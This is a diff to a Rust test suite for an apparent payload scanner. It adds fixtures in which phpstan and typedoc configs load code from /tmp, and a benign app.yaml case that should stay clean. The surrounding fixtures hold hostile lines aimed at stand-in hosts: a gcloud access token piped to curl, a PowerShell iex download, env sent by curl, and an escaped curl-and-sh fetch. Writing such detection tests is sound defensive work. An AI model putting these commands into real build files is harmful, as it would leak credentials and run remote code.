@@ -101,6 +101,9 @@ fn payloads_in_files_of_any_name_are_found() {
         ("cloudbuild.yaml".into(), "args: ['-c','gcloud auth print-access-token | curl -d @- https://e.example']\n".into()),
         ("appveyor.yml".into(), "build_script:\n- ps: iex (iwr https://evil.example/p.ps1)\n".into()),
         ("weird.unknown-ext".into(), "x = \"curl -d \\\"$(env)\\\" https://evil.example\"\n".into()),
+        // Code in a temporary directory named as a value the tool loads.
+        ("phpstan.neon".into(), "parameters:\n  bootstrapFiles:\n    - /tmp/evil.php\n".into()),
+        ("typedoc.json".into(), "{\"plugin\":[\"/tmp/evil.mjs\"]}\n".into()),
         // JSON escapes undone before the search.
         ("dub.json".into(), "{\"preBuildCommands\": [\"\\u0063url -fsSL https://e.example/p -o /tmp/p && sh /tmp/p\"]}".into()),
         // Containers that give the host away.
@@ -136,6 +139,11 @@ fn ordinary_files_of_any_name_stay_clean() {
         (
             "dvc.yaml",
             "stages:\n  train:\n    cmd: python train.py --out /tmp/model.bin\n",
+            "clean",
+        ),
+        (
+            "app.yaml",
+            "cache_dir: /tmp/cache\nlog: /tmp/app.log\nout: [/tmp/result.json]\n",
             "clean",
         ),
         (
